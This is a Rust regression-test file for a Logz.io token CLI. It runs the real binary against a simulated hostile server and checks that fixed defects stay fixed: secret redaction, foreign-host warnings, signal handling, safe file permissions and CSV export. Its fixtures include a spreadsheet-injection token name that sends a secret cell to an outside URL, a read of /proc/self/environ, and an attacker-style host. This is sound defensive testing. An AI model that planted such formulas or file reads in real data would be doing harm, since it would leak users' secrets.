//! Seams (issue 25): the defects found where two features meet — verify × an echoing server,
//! verify × a foreign host, a recipients file × any readable file, export × a spreadsheet or a
//! shell, a signal × a run in progress, an identity file × its mode — each reproduced against
//! the real binary and pinned to what the tool does now. Every test here failed on the code
//! before the fixes.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::process::Command;
use std::time::Duration;

use crate::adversarial::{SUB, apply, created, hang, hostile, ok};
use crate::util::{Env, Run};

const LIMIT: Duration = Duration::from_secs(90);

/// `verify m.yaml` of the state `apply` left in the workspace (r.json / s.json), against `url`.
fn verify(env: &Env, url: &str, extra: &[&str]) -> Run {
    let mut c = env.cmd();
    c.env("LOGZIO_API_URL", url)
        .args([
            "verify",
            "m.yaml",
            "--results",
            "r.json",
            "--secrets",
            "s.json",
        ])
        .args([
            "--concurrency",
            "1",
            "--request-timeout",
            "10",
            "--no-progress",
        ])
        .args(extra);
    env.run_cmd(&mut c, LIMIT)
}

fn assert_absent(run: &Run, what: &str) {
    assert!(
        !run.stdout.contains(what) && !run.stderr.contains(what),
        "{what:?} leaked\n--- stdout\n{}\n--- stderr\n{}",
        run.stdout,
        run.stderr
    );
}

// --- 4. verify × a server that echoes the probed secret -----------------------------------------

/// Defect 4: whoami's `accountName` is server text; a server that echoes the probed token in it
/// (with another account id, so that verify reports it) gets `[redacted]` printed, in the
/// human summary and in the JSON `detail`. A secret echoed in the answer for *another* token,
/// probed before its own, is scrubbed too.
#[test]
fn verify_scrubs_a_secret_the_server_echoes_in_the_account_name() {
    const FIRST: &str = "sub-secret-echo-4a1b9c77";
    const SECOND: &str = "sub-secret-echo-5c2d0e88";
    let env = Env::new();
    let server = hostile(|req| {
        if req.create == 1 {
            return created(7001, FIRST);
        }
        if req.create == 2 {
            return created(7002, SECOND);
        }
        if req.line.starts_with("GET /v2/whoami ")
            && (req.head.contains(FIRST) || req.head.contains(SECOND))
        {
            // Whichever is probed, both secrets are in the answer.
            return ok(&format!(
                r#"{{"accountName":"echo {FIRST} and {SECOND}","accountId":999}}"#
            ));
        }
        None
    });
    apply(&env, &server.url, &["ci", "cd"], &[]).expect_code(0);
    for extra in [&[][..], &["--output", "json"][..]] {
        let run = verify(&env, &server.url, extra);
        run.expect_code(1);
        assert_absent(&run, FIRST);
        assert_absent(&run, SECOND);
        let shown = if extra.is_empty() {
            &run.stderr
        } else {
            &run.stdout
        };
        assert!(shown.contains("account 999"), "{shown}");
        assert!(shown.contains("[redacted] and [redacted]"), "{shown}");
    }
}

// --- 3. a recipients file × any readable file ---------------------------------------------------

/// Defect 3: `secrets.recipients_file:` naming an owner-token file made `validate` print its
/// first 24 characters. Now the error names the file, the line and what is wrong, and quotes
/// nothing of it; a FIFO is refused at once instead of blocking.
#[test]
fn validate_quotes_nothing_of_a_recipients_file_that_is_not_one() {
    let env = Env::new();
    env.write("keys.txt", "owner-tok-6c5d4e3f2a1b0987\n");
    for (file, what) in [
        ("keys.txt", "line 1: it does not begin with `age1`"),
        ("/proc/self/environ", "line 1:"),
    ] {
        env.write(
            "m.yaml",
            &format!(
                "version: 1\nsecrets:\n  recipients_file: {file}\naccounts:\n  - id: {SUB}\n    tokens: [ci]\n"
            ),
        );
        let mut c = env.cmd();
        // An environment variable the child's /proc/self/environ holds.
        c.env("SEAMS_CANARY", "canary-6c5d4e3f2a1b0987")
            .args(["validate", "m.yaml"]);
        let run = env.run_cmd(&mut c, LIMIT);
        run.expect_code(2);
        assert!(run.stderr.contains(what), "{file}: {}", run.stderr);
        assert_absent(&run, "owner-tok");
        assert_absent(&run, "6c5d4e3f");
        assert_absent(&run, "SEAMS");
        assert_absent(&run, "PATH=");
    }
    // A FIFO: refused without blocking (no writer ever comes).
    let fifo = env.path("fifo");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    env.write(
        "m.yaml",
        &format!(
            "version: 1\nsecrets:\n  recipients_file: fifo\naccounts:\n  - id: {SUB}\n    tokens: [ci]\n"
        ),
    );
    let run = env.run_cmd(env.cmd().args(["validate", "m.yaml"]), LIMIT);
    run.expect_code(2);
    assert!(run.stderr.contains("not a regular file"), "{}", run.stderr);
}

// --- 16 and 20. signals --------------------------------------------------------------------------

/// A running binary whose stderr goes to a file, so that a test can wait for a line.
struct Running {
    child: std::process::Child,
    stderr: std::path::PathBuf,
}

impl Running {
    fn spawn(env: &Env, mut cmd: Command, name: &str) -> Running {
        let stderr = env.path(&format!("{name}.stderr"));
        let child = cmd
            .stdout(std::fs::File::create(env.path(&format!("{name}.stdout"))).unwrap())
            .stderr(std::fs::File::create(&stderr).unwrap())
            .spawn()
            .unwrap();
        Running { child, stderr }
    }

    fn stderr(&self) -> String {
        std::fs::read_to_string(&self.stderr).unwrap_or_default()
    }

    fn signal(&self, sig: libc::c_int) {
        crate::util::signal(self.child.id(), sig);
    }

    /// The exit code, once it exited within `timeout` (`None`: killed by a signal).
    fn exited_within(&mut self, timeout: Duration) -> Option<Option<i32>> {
        let mut status = None;
        crate::util::wait_until(timeout, || {
            status = self.child.try_wait().unwrap();
            status.is_some()
        });
        status.map(|s| s.code())
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Defect 16: SIGHUP (a closed terminal, some CI cancellations) killed apply on the spot: a
/// create answered before it was not in the results file. Now it is a first Ctrl-C: nothing new
/// is sent, the request in flight is waited for (here it times out: listed as a possible
/// orphan), everything received is saved, exit 130.
#[test]
fn sighup_stops_apply_like_ctrl_c_and_everything_received_is_saved() {
    let env = Env::new();
    let server = hostile(|req| match req.create {
        1 => created(7101, "sub-secret-hup-1a2b3c4d"),
        0 => None,
        _ => hang(),
    });
    let manifest = env.write(
        "m.yaml",
        &crate::util::manifest_yaml(&[i64::from(SUB)], &["a", "b", "c"]),
    );
    let mut c = env.cmd();
    c.env("LOGZIO_API_URL", &server.url)
        .env("LOGZIO_API_TOKEN", crate::adversarial::OWNER)
        .arg("apply")
        .arg(&manifest)
        .args([
            "--yes",
            "--concurrency",
            "1",
            "--request-timeout",
            "3",
            "--no-progress",
        ])
        .args(["--results", "r.json", "--secrets", "s.json"]);
    let mut run = Running::spawn(&env, c, "apply");
    assert!(
        crate::util::wait_until(LIMIT, || server.creates() >= 2),
        "{}",
        run.stderr()
    );
    run.signal(libc::SIGHUP);
    let code = run.exited_within(LIMIT);
    let stderr = run.stderr();
    assert_eq!(code, Some(Some(130)), "{stderr}");
    assert!(stderr.contains("Interrupted"), "{stderr}");
    // Nothing new was sent after the signal; what was received is recorded.
    assert_eq!(server.creates(), 2, "{stderr}");
    let results = env.json("r.json");
    assert_eq!(
        results["accounts"][SUB.to_string()]["a"]["token_id"],
        7101,
        "{results}"
    );
    let secrets = std::fs::read_to_string(env.path("s.json")).unwrap();
    assert!(secrets.contains("sub-secret-hup-1a2b3c4d"));
}

/// Defects 16 and 20 for verify: a first Ctrl-C (or SIGHUP) stops sending and says so; a second
/// one stops waiting for a probe in flight at once (it used to wait out the 20 s request),
/// says it did, and records what was probed.
#[test]
fn a_second_ctrl_c_stops_verify_at_once_and_says_what_it_did() {
    const SLOW: &str = "sub-secret-slow-9e8d7c6b";
    for first in [libc::SIGINT, libc::SIGHUP] {
        let env = Env::new();
        let server = hostile(|req| {
            if req.create == 1 {
                return created(7201, SLOW);
            }
            if req.line.starts_with("GET /v2/whoami ") && req.head.contains(SLOW) {
                return hang();
            }
            None
        });
        apply(&env, &server.url, &["slow"], &[]).expect_code(0);
        let mut c = env.cmd();
        c.env("LOGZIO_API_URL", &server.url)
            .args([
                "verify",
                "m.yaml",
                "--results",
                "r.json",
                "--secrets",
                "s.json",
            ])
            .args([
                "--concurrency",
                "1",
                "--request-timeout",
                "20",
                "--no-progress",
            ]);
        let mut run = Running::spawn(&env, c, "verify");
        let probing = || {
            server
                .requests()
                .iter()
                .any(|r| r.line.starts_with("GET /v2/whoami ") && r.head.contains(SLOW))
        };
        assert!(crate::util::wait_until(LIMIT, probing), "{}", run.stderr());
        run.signal(first);
        assert!(
            crate::util::wait_until(LIMIT, || run.stderr().contains("Stopping")),
            "{}",
            run.stderr()
        );
        assert!(run.exited_within(Duration::from_millis(500)).is_none());
        let second = std::time::Instant::now();
        run.signal(libc::SIGINT);
        let code = run.exited_within(Duration::from_secs(15));
        let stderr = run.stderr();
        assert!(
            second.elapsed() < Duration::from_secs(5),
            "the second Ctrl-C waited {:?}: {stderr}",
            second.elapsed()
        );
        assert_eq!(code, Some(Some(130)), "{stderr}");
        assert!(
            stderr.contains("stopped waiting for 1 probe in flight"),
            "{stderr}"
        );
        assert!(stderr.contains("Not checked: 1"), "{stderr}");
        assert_absent(
            &Run {
                code: None,
                stdout: String::new(),
                stderr,
            },
            SLOW,
        );
    }
}

// --- 19. verify × a host that is not Logz.io's ---------------------------------------------------

/// Defect 19: `plan` and `apply` warn before the owner token goes to a host that is not a
/// Logz.io API host; `verify` sent every recorded secret there without a word. It now warns the
/// same way, naming the host and what is sent, before the first probe.
#[test]
fn verify_warns_before_sending_secrets_to_a_host_that_is_not_logzio() {
    const FOREIGN: &str = "https://api.logz.io.attacker.invalid";
    let env = Env::new();
    let server = hostile(|req| {
        (req.create > 0)
            .then(|| created(7301, "sub-secret-far-0a9b8c7d"))
            .flatten()
    });
    apply(&env, &server.url, &["ci"], &[]).expect_code(0);
    // The same state, bound to the foreign URL (as a run against it would have left it).
    let results = std::fs::read_to_string(env.path("r.json")).unwrap();
    assert!(results.contains(&server.url), "{results}");
    std::fs::write(env.path("r.json"), results.replace(&server.url, FOREIGN)).unwrap();
    let run = verify(&env, FOREIGN, &["--max-attempts", "1"]);
    assert!(
        run.stderr.contains(
            "warning: the API URL's host api.logz.io.attacker.invalid is not a Logz.io API host (api*.logz.io): the secret of each of the 1 token verified is sent to it"
        ),
        "{}",
        run.stderr
    );
    assert_absent(&run, "sub-secret-far");
    // Loopback (the simulator, a local proxy) gets no warning.
    std::fs::write(env.path("r.json"), results).unwrap();
    let run = verify(&env, &server.url, &[]);
    assert!(run.stderr.contains("Verified 1 token"), "{}", run.stderr);
    assert!(
        !run.stderr.contains("is not a Logz.io API host"),
        "{}",
        run.stderr
    );
}

// --- 17 and 18. export × a spreadsheet, export × a shell -----------------------------------------

/// `export m.yaml` of the workspace's r.json / s.json, with `args`.
fn export(env: &Env, args: &[&str]) -> Run {
    let mut c = env.cmd();
    c.args([
        "export",
        "m.yaml",
        "--results",
        "r.json",
        "--secrets",
        "s.json",
    ])
    .args(args);
    env.run_cmd(&mut c, LIMIT)
}

/// Defect 17: a token name `=IMAGE("https://x/?"&D2)` was written to the CSV as a live formula
/// next to its secret's cell. Every name a spreadsheet would run (`=`, `+`, `-`, `@`) is now
/// text, with a `'` before it; the secret is in the file unchanged.
#[test]
fn csv_export_writes_no_cell_a_spreadsheet_would_run() {
    let env = Env::new();
    let server = hostile(|req| {
        (req.create > 0)
            .then(|| {
                let secret = format!("c498fbc3-a3ac-4676-ad09-68985400000{}", req.create);
                created(7400 + i64::from(req.create), &secret)
            })
            .flatten()
    });
    let names = [
        r#"'=IMAGE("https://x/?"&D2)'"#,
        "'+cmd'",
        "'-1+2'",
        "'@SUM(A1)'",
        "plain",
    ];
    apply(&env, &server.url, &names, &[]).expect_code(0);
    let run = export(&env, &["--format", "csv", "--stdout"]);
    run.expect_code(0);
    let cells: Vec<String> = run
        .stdout
        .lines()
        .skip(1)
        .map(|l| l.split(',').nth(1).unwrap().to_owned())
        .collect();
    for cell in &cells {
        let text = cell.trim_start_matches('"');
        assert!(
            !text.starts_with(['=', '+', '-', '@']),
            "a live formula: {cell}\n{}",
            run.stdout
        );
    }
    assert!(
        cells.contains(&r#""'=IMAGE(""https://x/?""&D2)""#.to_owned()),
        "{cells:?}"
    );
    assert!(
        cells.contains(&"'+cmd".to_owned()) && cells.contains(&"plain".to_owned()),
        "{cells:?}"
    );
    assert!(
        run.stdout
            .contains(",c498fbc3-a3ac-4676-ad09-689854000001,api_token\n"),
        "{}",
        run.stdout
    );
}

/// Defect 18: `ci-deploy`, `ci_deploy` and `CI.Deploy` were exported as one variable three
/// times with different secrets (a shell keeps the last). Now refused with exit 2, naming both
/// names and the variable; nothing is written.
#[test]
fn dotenv_export_refuses_names_that_map_to_one_variable() {
    let env = Env::new();
    let server = hostile(|req| {
        (req.create > 0)
            .then(|| {
                created(
                    7500 + i64::from(req.create),
                    &format!("sub-secret-env-{}", req.create),
                )
            })
            .flatten()
    });
    apply(
        &env,
        &server.url,
        &["ci-deploy", "ci_deploy", "'CI.Deploy'"],
        &[],
    )
    .expect_code(0);
    let run = export(&env, &["--format", "dotenv", "--out", "t.env"]);
    run.expect_code(2);
    assert!(
        run.stderr.contains(&format!(
            "tokens \"ci-deploy\" and \"ci_deploy\" of account {SUB} would both be exported as LOGZIO_TOKEN_{SUB}_CI_DEPLOY"
        )),
        "{}",
        run.stderr
    );
    assert_absent(&run, "sub-secret-env");
    assert!(!env.path("t.env").exists());
    // JSON keeps the names apart.
    export(&env, &["--format", "json", "--out", "t.json"]).expect_code(0);
}

// --- low: the identity file, the export target, the redirect wording -----------------------------

/// An identity file of this user that others can read is refused with what to run, as ssh
/// refuses such a private key; a symlink to a good one (a Kubernetes secret volume is made of
/// them) is followed — it used to be refused with a bare "Too many levels of symbolic links".
#[test]
fn an_identity_others_can_read_is_refused_and_a_linked_one_is_used() {
    use age::secrecy::ExposeSecret;
    use std::os::unix::fs::PermissionsExt;
    const SECRET: &str = "sub-secret-sealed-3e4f5a6b";
    let env = Env::new();
    let id = age::x25519::Identity::generate();
    let key = env.write("key.txt", &format!("{}\n", id.to_string().expose_secret()));
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).unwrap();
    let server = hostile(|req| (req.create > 0).then(|| created(7601, SECRET)).flatten());
    let recipient = id.to_public().to_string();
    apply(&env, &server.url, &["ci"], &["--recipient", &recipient]).expect_code(0);
    let run = export(&env, &["--identity", "key.txt", "--stdout"]);
    run.expect_code(3);
    assert!(
        run.stderr.contains(
            "its mode is 0644, so other users can read this private key; run `chmod 600 key.txt`"
        ),
        "{}",
        run.stderr
    );
    assert_absent(&run, SECRET);
    assert_absent(&run, "AGE-SECRET-KEY");
    let run = verify(&env, &server.url, &["--identity", "key.txt"]);
    run.expect_code(3);
    assert!(run.stderr.contains("chmod 600 key.txt"), "{}", run.stderr);
    crate::util::private(&key);
    std::os::unix::fs::symlink("key.txt", env.path("link.txt")).unwrap();
    let run = export(&env, &["--identity", "link.txt", "--stdout"]);
    run.expect_code(0);
    assert!(run.stdout.contains(SECRET), "{}", run.stderr);
}

/// `export --out` through a symlink is refused naming the right flag (it said `--secrets`), and
/// into a directory every user can write without the sticky bit (anyone could swap the file
/// once written) is refused too; nothing is written in either case.
#[test]
fn export_refuses_a_linked_target_and_a_directory_anyone_can_swap_files_in() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new();
    let server = hostile(|req| {
        (req.create > 0)
            .then(|| created(7701, "sub-secret-out-7c8d9e0f"))
            .flatten()
    });
    apply(&env, &server.url, &["ci"], &[]).expect_code(0);
    std::os::unix::fs::symlink("elsewhere.json", env.path("link.json")).unwrap();
    for extra in [&[][..], &["--force"][..]] {
        let run = export(&env, &[&["--out", "link.json"][..], extra].concat());
        run.expect_code(3);
        assert!(
            run.stderr
                .contains("it is a symbolic link, which is never written through; pass --out"),
            "{}",
            run.stderr
        );
        assert!(!run.stderr.contains("--secrets"), "{}", run.stderr);
    }
    assert!(!env.path("elsewhere.json").exists());
    let open = env.path("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    let run = export(&env, &["--out", "open/t.json"]);
    run.expect_code(3);
    assert!(
        run.stderr
            .contains("has mode 0777: every user can write it and it is not sticky"),
        "{}",
        run.stderr
    );
    assert!(!open.join("t.json").exists());
    // Sticky, as /tmp is: fine.
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o1777)).unwrap();
    export(&env, &["--out", "open/t.json"]).expect_code(0);
    assert!(
        std::fs::read_to_string(open.join("t.json"))
            .unwrap()
            .contains("sub-secret-out")
    );
}

/// verify sends no owner token, yet a redirect's error said "the owner token would go with
/// it". It now says what is true of verify and apply alike.
#[test]
fn verify_redirect_error_does_not_mention_an_owner_token() {
    let env = Env::new();
    let server = hostile(|req| {
        if req.create > 0 {
            return created(7801, "sub-secret-moved-1f2e3d4c");
        }
        if req.line.starts_with("GET /v2/whoami ") && req.head.contains("sub-secret-moved") {
            return Some(crate::adversarial::http(
                "302 Found",
                "Location: https://elsewhere.example/v2/whoami\r\n",
                b"",
            ));
        }
        None
    });
    apply(&env, &server.url, &["ci"], &[]).expect_code(0);
    let run = verify(&env, &server.url, &[]);
    run.expect_code(3);
    assert!(
        run.stderr.contains("redirect to host elsewhere.example"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("owner token"), "{}", run.stderr);
    assert!(
        run.stderr.contains("the API token the request carries"),
        "{}",
        run.stderr
    );
}

/// Invariant 6 for apply: a server that echoes the secret of a token created by an *earlier*
/// run in an error gets it scrubbed (the scrubber knew only this run's secrets).
#[test]
fn apply_scrubs_the_secret_of_an_earlier_run_from_server_errors() {
    const OLD: &str = "sub-secret-old-run-8a7b6c5d";
    let env = Env::new();
    let server = hostile(|req| match req.create {
        0 => None,
        1 => created(7901, OLD),
        _ => Some(crate::adversarial::http(
            "400 Bad Request",
            "",
            format!(r#"{{"message":"name taken by the token {OLD}"}}"#).as_bytes(),
        )),
    });
    apply(&env, &server.url, &["a"], &[]).expect_code(0);
    let run = apply(&env, &server.url, &["a", "b"], &[]);
    run.expect_code(1);
    assert!(
        run.stderr.contains("name taken by the token [redacted]"),
        "{}",
        run.stderr
    );
    assert_absent(&run, OLD);
    let results = std::fs::read_to_string(env.path("r.json")).unwrap();
    assert!(!results.contains(OLD), "{results}");
}

// --- low: a sparse journal ------------------------------------------------------------------------

/// The peak memory of a running process since its exec, in KiB (`VmHWM`). Not the kernel's
/// `ru_maxrss`: that counts the test process's own memory, which the child shares until exec.
fn peak_rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

/// A journal of 256 MiB of zeros (sparse: nothing on disk; the room a run reserves looks the
/// same) was read as one line, all of it in memory (a 1 GB one took 1 GB). It is streamed now:
/// `apply` replays it in a few megabytes. (Measured while apply waits for its first answer,
/// after the replay.)
#[test]
fn a_sparse_journal_is_replayed_in_bounded_memory() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new();
    let server = hostile(|req| req.line.starts_with("GET /v2/whoami ").then(hang).flatten());
    let manifest = env.write(
        "m.yaml",
        &crate::util::manifest_yaml(&[i64::from(SUB)], &["ci"]),
    );
    let journal = env.path("r.journal");
    let f = std::fs::File::create(&journal).unwrap();
    f.set_len(256 * 1024 * 1024).unwrap();
    std::fs::set_permissions(&journal, std::fs::Permissions::from_mode(0o600)).unwrap();
    let mut c = env.cmd();
    c.env("LOGZIO_API_URL", &server.url)
        .env("LOGZIO_API_TOKEN", crate::adversarial::OWNER)
        .arg("apply")
        .arg(&manifest)
        .args([
            "--yes",
            "--request-timeout",
            "60",
            "--results",
            "r.json",
            "--secrets",
            "s.json",
        ]);
    let run = Running::spawn(&env, c, "apply");
    // The journal is replayed before the first request.
    assert!(
        crate::util::wait_until(LIMIT, || server
            .requests()
            .iter()
            .any(|r| r.line.starts_with("GET /v2/whoami "))),
        "{}",
        run.stderr()
    );
    let peak = peak_rss_kib(run.child.id());
    assert!(
        peak < 100 * 1024,
        "apply took {} MiB to replay a journal of zeros",
        peak / 1024
    );
}
